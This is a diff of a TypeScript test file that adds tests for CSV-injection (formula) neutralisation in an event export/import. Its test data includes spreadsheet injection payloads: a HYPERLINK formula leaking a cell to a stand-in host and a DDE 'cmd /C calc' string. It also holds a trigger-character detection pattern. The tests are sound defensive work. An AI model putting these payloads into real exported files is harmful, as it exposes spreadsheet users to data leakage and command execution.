@@ -9,7 +9,8 @@ import path from 'node:path';
 import { fileURLToPath } from 'node:url';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { openDatabase, type Database } from '../src/db/database.js';
-import { csvField } from '../src/export/export-format.js';
+import { stringify } from 'csv-stringify/sync';
+import { neutraliseCell, restoreCell } from '../src/export/export-format.js';
 import { COLUMN_NAMES } from '../src/export/export-query.js';
 import type { PrismaClient } from '../src/generated/prisma/client.js';
 import { parseCsv } from '../src/import/csv.js';
@@ -194,7 +195,7 @@ describe('export', () => {
               : value === null
                 ? ''
                 : String(value);
-        expect(asCsv, `${i}.${name}`).toBe(row[name]);
+        expect(asCsv, `${i}.${name}`).toBe(restoreCell(row[name]!));
       }
     });
     expect(typeof lines[0].goldstein).toBe('number');
@@ -311,7 +312,11 @@ describe('import', () => {
   function corrupt(changes: [number, string, string][]): { text: string; lineOf: (row: number) => number } {
     const [header, ...rows] = parseCsv(csv);
     for (const [row, column, value] of changes) rows[row]!.fields[header!.fields.indexOf(column)] = value;
-    const text = [header!, ...rows].map((r) => r.fields.map(csvField).join(',')).join('\r\n') + '\r\n';
+    // The cells are already as the export wrote them: re-quoted, not neutralised again.
+    const text = stringify(
+      [header!, ...rows].map((r) => r.fields),
+      { record_delimiter: '\r\n' },
+    );
     const lines = parseCsv(text).map((r) => r.line);
     return { text, lineOf: (row) => lines[row + 1]! };
   }
@@ -438,6 +443,168 @@ describe('import', () => {
     } finally {
       await rm(dir, { recursive: true, force: true });
     }
+  });
+});
+
+describe('formula neutralisation (OWASP CSV injection)', () => {
+  // What an editor may store, and what the CSV must show instead. JSON Lines carries the raw values.
+  const HOSTILE = {
+    title: '=HYPERLINK("http://example.invalid/?x="&A1,"x")',
+    summary: "+cmd|' /C calc'!A0",
+    placeName: '@SUM(1+1)',
+    quote: '-2+3',
+    sourceTitle: '\uFF1D1+1 full-width equals',
+    publisher: "'=already behind an apostrophe",
+    quote2: 'Talks went well;-1+1 said the note;=2+2',
+  };
+  const EXPECTED_CSV = {
+    title: `'${HOSTILE.title}`,
+    summary: `'${HOSTILE.summary}`,
+    location: `'${HOSTILE.placeName}`,
+    quote: `'${HOSTILE.quote}`,
+    source_title: `'${HOSTILE.sourceTitle}`,
+    source_publisher: `''=already behind an apostrophe`,
+  };
+  let hostile: TestServer;
+  let hostileCsv: string;
+  let hostileJsonl: string;
+  const TRIGGERS = /^[=+\-@\t\r\n\uFF1D\uFF0B\uFF0D\uFF20]/;
+  const NUMERIC = new Set(['quad_class', 'goldstein', 'citation_index']);
+
+  beforeAll(async () => {
+    hostile = await startTestServer();
+    const editor = await bearer(hostile.db, 'EDITOR');
+    const { data } = await hostile.gql(`{
+      kishi: participant(slug: "nobuo-kishi") { id }
+      giang: participant(slug: "phan-van-giang") { id }
+    }`);
+    const created = await hostile.gql(
+      `mutation($input: CreateEventInput!) { createEvent(input: $input) { event { slug } } }`,
+      {
+        input: {
+          kind: 'MEETING',
+          title: HOSTILE.title,
+          summary: HOSTILE.summary,
+          placeName: HOSTILE.placeName,
+          start: { date: '2031-05-01', precision: 'DAY' },
+          cameoCode: '111', // Goldstein −2: a negative number that must stay a number
+          participants: [
+            { participantId: data.kishi.id, role: 'VISITOR' },
+            { participantId: data.giang.id, role: 'HOST' },
+          ],
+          citations: [
+            {
+              source: {
+                kind: 'NEWS_ARTICLE',
+                title: HOSTILE.sourceTitle,
+                publisher: HOSTILE.publisher,
+                fullText: `The note read ${HOSTILE.quote} and nothing more. ${HOSTILE.quote2}`,
+              },
+              quote: HOSTILE.quote,
+            },
+            {
+              source: { kind: 'NEWS_ARTICLE', title: 'A second report' },
+              quote: HOSTILE.quote2,
+            },
+          ],
+        },
+      },
+      { authorization: editor.authorization },
+    );
+    expect(created.errors).toBeUndefined();
+    hostileCsv = (await get(`${hostile.url}/export/events.csv?from=2031-05-01`)).text;
+    hostileJsonl = (await get(`${hostile.url}/export/events.jsonl?from=2031-05-01`)).text;
+  });
+  afterAll(async () => {
+    await hostile?.stop();
+  });
+
+  it('the CSV shows every formula as text: an apostrophe in front, at the start and after each ";"', () => {
+    const rows = csvObjects(hostileCsv);
+    expect(rows).toHaveLength(2);
+    const first = rows.find((r) => r.source_title !== 'A second report')!;
+    const second = rows.find((r) => r.source_title === 'A second report')!;
+    expect(first).toMatchObject(EXPECTED_CSV);
+    expect(second.quote).toBe("Talks went well;'-1+1 said the note;'=2+2");
+    // Numbers stay numbers: the Goldstein weight is -2, not '-2.
+    expect(first.goldstein).toBe('-2');
+    expect(first.quad_class).toBe('3');
+    // No text cell, nor any ";"-separated piece of one, starts with a trigger.
+    for (const row of rows)
+      for (const [name, cell] of Object.entries(row)) {
+        if (NUMERIC.has(name)) continue;
+        for (const piece of cell.split(';')) expect(piece, name).not.toMatch(TRIGGERS);
+      }
+  });
+
+  it('JSON Lines carries the raw values', () => {
+    const records = hostileJsonl
+      .trim()
+      .split('\n')
+      .map((l) => JSON.parse(l));
+    expect(records).toHaveLength(2);
+    const first = records.find((r) => r.source_title !== 'A second report');
+    const second = records.find((r) => r.source_title === 'A second report');
+    expect(first).toMatchObject({
+      title: HOSTILE.title,
+      summary: HOSTILE.summary,
+      location: HOSTILE.placeName,
+      quote: HOSTILE.quote,
+      source_title: HOSTILE.sourceTitle,
+      source_publisher: HOSTILE.publisher,
+      goldstein: -2,
+    });
+    expect(second.quote).toBe(HOSTILE.quote2);
+  });
+
+  it('the import undoes exactly the neutralisation: the CSV round-trips to the raw values', async () => {
+    const test = await createTestDatabase();
+    const db = await openDatabase(test.config);
+    try {
+      await db.migrate();
+      const full = (await get(`${hostile.url}/export/events.csv`)).text;
+      const report = await importEvents(db.prisma, full, { format: 'csv' });
+      expect(report.rejected).toEqual([]);
+      expect(await snapshot(db.prisma)).toEqual(await snapshot(hostile.db.prisma));
+      const event = await db.prisma.event.findFirstOrThrow({
+        where: { title: HOSTILE.title },
+        include: { citations: { include: { source: true }, orderBy: { quote: 'asc' } } },
+      });
+      expect(event).toMatchObject({ summary: HOSTILE.summary, placeName: HOSTILE.placeName });
+      expect(event.citations.map((c) => c.quote)).toEqual([HOSTILE.quote, HOSTILE.quote2]);
+      expect(event.citations[0]!.source).toMatchObject({
+        title: HOSTILE.sourceTitle,
+        publisher: HOSTILE.publisher,
+      });
+    } finally {
+      await db.close();
+      await test.drop();
+    }
+  });
+
+  it('neutraliseCell and restoreCell are inverses, and leave ordinary text alone', () => {
+    for (const text of [
+      'Hanoi',
+      '2021-09-11',
+      "'Tis the season",
+      "''=x",
+      '=1+1',
+      '-',
+      "'",
+      ';',
+      ';=;+;',
+      "a;'b;''-c",
+      '\t=x',
+      '\uFF0D5',
+      'military;cyber',
+      '',
+    ]) {
+      expect(restoreCell(neutraliseCell(text)), JSON.stringify(text)).toBe(text);
+    }
+    expect(neutraliseCell('Hanoi, Vietnam')).toBe('Hanoi, Vietnam');
+    expect(neutraliseCell("'Tis")).toBe("'Tis");
+    expect(neutraliseCell("'=x")).toBe("''=x");
+    expect(neutraliseCell('\n=x')).toBe("'\n=x");
   });
 });
 
